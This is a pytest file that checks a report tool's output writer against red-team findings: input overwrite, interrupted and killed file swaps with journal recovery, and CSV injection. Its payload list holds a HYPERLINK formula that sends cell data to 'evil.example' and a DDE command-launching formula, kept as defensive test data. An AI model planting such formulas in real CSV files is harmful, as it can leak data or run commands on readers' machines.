"""The red-team pass's output faults: `plan INPUT -o DIR` writing over INPUT when it is DIR/plans.csv; a
signal while the outputs are swapped in leaving a mixed set and losing the earlier copy; and
formula text in plans.csv (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import os
import signal
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from ledger_report.cli import main
from ledger_report.render import output
from ledger_report.render.output import csv_bytes, csv_text, plans_csv, template_csv, write_outputs

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from support.jobs import NARROW, QWEN3_8B_JOB  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
OLD = {"r.xlsx": b"PK old workbook", "r.pdf": b"%PDF old handout", "r.json": b'{"old": 1}\n'}
NEW = {"r.xlsx": b"PK new workbook", "r.pdf": b"%PDF new handout", "r.json": b'{"new": 1}\n'}


def _earlier(folder: Path) -> None:
    folder.mkdir(exist_ok=True)
    for name, data in OLD.items():
        (folder / name).write_bytes(data)


def _contents(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


# ---- a signal while the outputs are swapped in --------------------------------------------------
@pytest.fixture
def sigterm_raises():
    """SIGTERM handled as the CLI handles it (as Ctrl-C: KeyboardInterrupt), and SIGINT as Python
    handles it by default, for this test only (a runner started in the background, as ``cmd &``
    from a script, starts Python with SIGINT ignored, and then it raises nothing)."""

    def handler(signum, frame):
        raise KeyboardInterrupt

    old = signal.signal(signal.SIGTERM, handler)
    old_int = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGTERM, old)
    signal.signal(signal.SIGINT, old_int)


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
@pytest.mark.parametrize("step", ["link", "replace-1", "replace-2", "replace-3"])
def test_a_signal_while_swapping_puts_every_earlier_file_back(
    tmp_path, monkeypatch, sigterm_raises, signum, step
):
    """Found in a red-team pass: Ctrl-C while the outputs were renamed into place left a mixed set (a target was
    recorded as replaced only after os.replace returned, so the one replaced when the signal came
    was never put back) and deleted its backup.  The signal is sent from inside the step named
    (the backup of the first target, or the k-th replace, after it is done): every earlier file
    is back, byte for byte, no temp or backup is left, and the interruption still ends the call."""
    out = tmp_path / "out"
    _earlier(out)
    calls = {"link": 0, "replace": 0}
    real_link, real_replace = os.link, os.replace
    kind, _, nth = step.partition("-")
    nth = int(nth or 1)

    def spy(name, real):
        def call(*a, **k):
            result = real(*a, **k)
            calls[name] += 1
            if name == kind and calls[name] == nth:
                os.kill(os.getpid(), signum)
            return result

        return call

    monkeypatch.setattr(output.os, "link", spy("link", real_link))
    monkeypatch.setattr(output.os, "replace", spy("replace", real_replace))
    with pytest.raises(KeyboardInterrupt):
        write_outputs({out / n: d for n, d in NEW.items()}, inputs=())
    assert _contents(out) == OLD


def test_a_signal_while_swapping_new_files_leaves_none(tmp_path, monkeypatch, sigterm_raises):
    """The same with no earlier files: the files already moved in are removed again."""
    out = tmp_path / "out"
    out.mkdir()
    real_replace = os.replace
    done = []

    def replace(*a, **k):
        real_replace(*a, **k)
        done.append(a)
        if len(done) == 2:
            os.kill(os.getpid(), signal.SIGINT)

    monkeypatch.setattr(output.os, "replace", replace)
    with pytest.raises(KeyboardInterrupt):
        write_outputs({out / n: d for n, d in NEW.items()}, inputs=())
    assert _contents(out) == {}


# ---- plan -o over its own input -----------------------------------------------------------------
# the Qwen3-8B job, its layout fixed but for dp and micro_batch (a small search)
PLAN_ROW = {**QWEN3_8B_JOB, **NARROW, "loss_chunks": 1}


@pytest.mark.slow  # a plan search in a subprocess-free CLI run: a few seconds
def test_plan_out_refuses_to_write_over_its_input(tmp_path):
    """Found in a red-team pass: `plan DIR/plans.csv -o DIR` overwrote its own input (the CLI called the writer
    without the inputs).  Now it exits 1 naming the file, and the input is byte-identical."""
    src = tmp_path / "plans.csv"
    src.write_text(
        ",".join(PLAN_ROW) + "\n" + ",".join(str(v) for v in PLAN_ROW.values()) + "\n",
        encoding="utf-8",
    )
    before = src.read_bytes()
    r = CliRunner().invoke(main, ["plan", str(src), "-o", str(tmp_path), "-q", "-j", "1"])
    assert r.exit_code == 1, r.output
    assert "is the input file" in r.output and "plans.csv" in r.output
    assert "Traceback" not in r.output
    assert src.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plans.csv"]


def test_every_writer_names_its_inputs():
    """The writer takes no default for ``inputs``: a caller that forgets them (as `plan -o` did)
    fails at once rather than writing over an input."""
    with pytest.raises(TypeError, match="inputs"):
        write_outputs({})  # type: ignore[call-arg]


# ---- formula text in CSV ------------------------------------------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_plans_csv_neutralises_formula_text():
    """OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a field starting
    with = + - @ tab or CR gets a leading apostrophe; LibreOffice opened such names in plans.csv
    as live formulas (found in a red-team pass).  Numbers (a negative one too) stay numbers; other text as it was."""
    rows = [{"name": p, "notes": p, "tokens": -5, "gpu": "H100-SXM"} for p in PAYLOADS]
    parsed = list(
        csv.DictReader(io.StringIO(plans_csv({"plans": [{"row": r} for r in rows]}).decode()))
    )
    assert [r["name"] for r in parsed] == ["'" + p for p in PAYLOADS]
    assert [r["notes"] for r in parsed] == ["'" + p for p in PAYLOADS]
    assert {r["tokens"] for r in parsed} == {"-5"} and {r["gpu"] for r in parsed} == {"H100-SXM"}


def test_owasp_worked_example_bytes():
    """OWASP's worked example: =1+2";=1+2 is written "'=1+2"";=1+2" (apostrophe, quotes doubled,
    the whole field quoted, so the ; cannot start a new cell)."""
    assert csv_bytes(["name"], [{"name": '=1+2";=1+2'}]) == b'name\r\n"\'=1+2"";=1+2"\r\n'
    assert csv_text("a=b") == "a=b" and csv_text(True) == "true" and csv_text(-1.5) == -1.5


def test_every_csv_the_tool_writes_goes_through_the_one_writer():
    """No CSV writer of its own anywhere in the package: plans.csv and the CSV template both come
    from output.csv_bytes (the template's example row is read back unchanged)."""
    package = ROOT / "ledger_report"
    own = [
        str(p.relative_to(ROOT))
        for p in package.rglob("*.py")
        if p.name != "output.py"
        and any(w in p.read_text(encoding="utf-8") for w in ("csv.writer", "csv.DictWriter"))
    ]
    assert own == []
    from ledger_report.render.workbook import EXAMPLE_ROW

    (row,) = csv.DictReader(io.StringIO(template_csv().decode()))
    assert row["name"] == EXAMPLE_ROW["name"]


def test_build_refuses_to_write_over_a_config_json_its_rows_read(tmp_path):
    """A row whose model cell names x.json beside x.csv: `build x.csv -o <that folder> --format
    json` would write x.json over the config.json it read.  The writer knows that input too: exit 1
    naming it, the config.json byte-identical."""
    config = tmp_path / "x.json"
    config.write_bytes((ROOT / "inputs" / "configs" / "qwen3-30b-a3b.json").read_bytes())
    before = config.read_bytes()
    src = tmp_path / "x.csv"
    src.write_text("name,model\nq,x.json\n", encoding="utf-8")
    r = CliRunner().invoke(main, ["build", str(src), "-o", str(tmp_path), "--format", "json"])
    assert r.exit_code == 1 and "x.json: it is the input file" in r.output
    assert config.read_bytes() == before


# ---- kill -9 while the outputs are swapped in ---------------------------------------------------
# A writer that SIGKILLs itself right after the n-th call of one os function (the call done):
# a real kill at a fixed point of the swap, which no handler sees.
_KILLED_WRITER = """
import json, os, signal, sys
from pathlib import Path
from ledger_report.render.output import write_outputs
kind, nth, out, files = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3]), json.loads(sys.argv[4])
real, calls = getattr(os, kind), []
def hooked(*a, **k):
    result = real(*a, **k)
    calls.append(a)
    if len(calls) == nth:
        os.kill(os.getpid(), signal.SIGKILL)
    return result
setattr(os, kind, hooked)
write_outputs({out / n: d.encode() for n, d in files.items()}, inputs=())
"""


def _killed_write(out: Path, files: dict[str, bytes], kind: str, nth: int) -> None:
    import json
    import subprocess
    import sys

    payload = json.dumps({n: d.decode() for n, d in files.items()})
    proc = subprocess.run(
        [sys.executable, "-c", _KILLED_WRITER, kind, str(nth), str(out), payload],
        capture_output=True,
        timeout=60,
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr.decode()


# Where the kill comes (the call after which it comes) and what the next run finds once it has
# recovered: every write before the swap is done is rolled back (the earlier set), a kill after it
# is done keeps the new set.  The writer's calls, in order: an fsync per temp (3), a link per
# backup (3), the fsync of the journal's record of the swap (the 4th fsync), a replace per target
# (3), then an unlink per backup once the swap is recorded done.
KILL_POINTS = [
    ("fsync", 2, OLD),  # the second temp written
    ("link", 2, OLD),  # the second backup made
    ("fsync", 4, OLD),  # the swap recorded, nothing replaced yet
    ("replace", 1, OLD),  # a mixed set: one new, two old
    ("replace", 2, OLD),
    ("replace", 3, OLD),  # every file new, the swap not yet recorded done
    ("unlink", 1, NEW),  # the swap done, its backups being removed
]


@pytest.mark.slow  # a Python subprocess per case
@pytest.mark.skipif(not hasattr(signal, "SIGKILL") or os.name != "posix", reason="POSIX")
@pytest.mark.parametrize("kind,nth,after", KILL_POINTS, ids=[f"{k}-{n}" for k, n, _ in KILL_POINTS])
def test_a_run_killed_while_swapping_is_undone_by_the_next(tmp_path, kind, nth, after):
    """Found in a red-team pass: kill -9 while the outputs were swapped in left `.bak.tmp` backups
    (and, part-way, a mixed set) that no later run removed.  The killed run leaves its journal; the
    next run that writes into the folder (its first step, check_targets) rolls the killed run back
    or, where its swap was done, finishes it: the folder holds exactly one whole set and no other
    file; the run after writes its own set and nothing else."""
    out = tmp_path / "out"
    _earlier(out)
    _killed_write(out, NEW, kind, nth)
    left = {p.name for p in out.iterdir()} - set(OLD)
    assert any(n.endswith(".journal.tmp") for n in left), left  # the case is real
    if (kind, nth) in (("replace", 1), ("replace", 2)):
        assert _contents(out) != OLD and _contents(out) != NEW  # a mixed set, before recovery
    output.check_targets([out / n for n in NEW], inputs=())
    assert _contents(out) == after
    third = {n: d.replace(b"new", b"third") for n, d in NEW.items()}
    write_outputs({out / n: d for n, d in third.items()}, inputs=())
    assert _contents(out) == third


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="POSIX")
def test_new_files_of_a_killed_run_are_removed(tmp_path):
    """With no earlier outputs, a run killed after its second replace: the next run removes the
    two files it moved in and the third's temp, leaving the folder empty."""
    out = tmp_path / "out"
    out.mkdir()
    _killed_write(out, NEW, "replace", 2)
    assert len(list(out.iterdir())) > 2
    assert output.recover([out]) != []
    assert _contents(out) == {}


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="POSIX")
def test_a_live_runs_journal_is_left_alone(tmp_path):
    """A journal whose lock is held (its run alive: here the lock taken by this test, flock(2)
    locks of two opens conflicting) is not touched; once let go, the next run undoes it."""
    import fcntl

    out = tmp_path / "out"
    _earlier(out)
    _killed_write(out, NEW, "replace", 1)
    (journal,) = [p for p in out.iterdir() if p.name.endswith(".journal.tmp")]
    mixed = _contents(out)
    fd = os.open(journal, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        assert output.recover([out]) == []
        assert _contents(out) == mixed
    finally:
        os.close(fd)
    assert output.recover([out]) == [journal]
    assert _contents(out) == OLD


# The same through the CLI: a build killed after its first replace, then a build of a bad row.
_KILLED_BUILD = """
import os, signal, sys
real = os.replace
def replace(*a, **k):
    real(*a, **k)
    os.kill(os.getpid(), signal.SIGKILL)
os.replace = replace
from ledger_report.cli import main
sys.argv = ["ledger-report", *sys.argv[1:]]
main()
"""


@pytest.mark.slow  # two builds in subprocesses
@pytest.mark.skipif(os.name != "posix", reason="POSIX")
def test_the_next_build_undoes_a_killed_build_even_when_it_fails(tmp_path):
    """`build` killed (SIGKILL) after it replaced the first of its two outputs: the folder holds a
    new workbook beside the earlier JSON and the backups.  The next `build` into it, of a file whose
    row is bad, exits 1 naming the row, and the folder holds the earlier outputs, byte for byte,
    and nothing else."""
    import subprocess
    import sys

    src = tmp_path / "r.csv"
    src.write_text("name,params_total\nm,7B\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    earlier = {"r.xlsx": b"PK earlier", "r.json": b'{"earlier": true}\n'}
    for name, data in earlier.items():
        (out / name).write_bytes(data)
    args = ["build", str(src), "-o", str(out), "--format", "xlsx,json", "-q", "-j", "1"]
    proc = subprocess.run([sys.executable, "-c", _KILLED_BUILD, *args], capture_output=True)
    assert proc.returncode == -signal.SIGKILL, proc.stderr.decode()
    assert set(_contents(out)) > set(earlier)  # the backups and the journal left
    src.write_text("name,params_total\nm,-7B\n", encoding="utf-8")
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 1 and "r.csv" in r.output and "params_total" in r.output
    assert _contents(out) == earlier


_KILLED_RECOVERY = """
import os, signal, sys
from ledger_report.render.output import recover
real = os.replace
def replace(*a, **k):
    real(*a, **k)
    os.kill(os.getpid(), signal.SIGKILL)
os.replace = replace
recover([sys.argv[1]])
"""


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="POSIX")
def test_a_recovery_killed_part_way_is_finished_by_the_next(tmp_path):
    """A run killed after its third replace (every output new, the swap not recorded done); the
    run that undoes it is itself killed after putting back the first file; the next one finishes
    the undo: the earlier set, byte for byte, and nothing else."""
    import subprocess
    import sys

    out = tmp_path / "out"
    _earlier(out)
    _killed_write(out, NEW, "replace", 3)
    assert _contents(out).keys() > OLD.keys() and _contents(out)["r.json"] == NEW["r.json"]
    proc = subprocess.run([sys.executable, "-c", _KILLED_RECOVERY, str(out)], timeout=60)
    assert proc.returncode == -signal.SIGKILL
    assert _contents(out) != OLD  # the undo was cut short
    assert len(output.recover([out])) == 1
    assert _contents(out) == OLD


def test_a_full_disk_at_the_journals_last_line_is_an_output_error_and_undone(tmp_path, monkeypatch):
    """Found in review: the journal's closing line was written outside the OSError-to-OutputError
    rule, so a full disk there (ENOSPC, errno 28) reached the CLI as an internal error.  It is a
    one-line OutputError naming the file and the reason, and the earlier outputs are put back."""
    import errno

    real = output._Journal.record

    def record(self, entry, sync=True):
        if entry.get("done"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(self, entry, sync)

    monkeypatch.setattr(output._Journal, "record", record)
    _earlier(tmp_path)
    with pytest.raises(output.OutputError, match="no space left on device"):
        write_outputs({tmp_path / n: d for n, d in NEW.items()}, inputs=[])
    assert _contents(tmp_path) == OLD
